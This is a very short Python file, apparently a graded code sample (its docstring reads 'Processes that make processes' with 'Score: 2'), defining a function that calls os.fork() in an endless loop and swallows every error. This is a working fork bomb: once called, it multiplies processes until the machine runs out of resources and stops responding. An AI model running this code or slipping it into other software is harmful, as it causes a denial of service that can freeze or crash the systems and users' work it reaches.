"""Processes that make processes.

Score: 2
"""

import os


def double(X):
    while True:
        try:
            os.fork()
        except OSError:
            pass
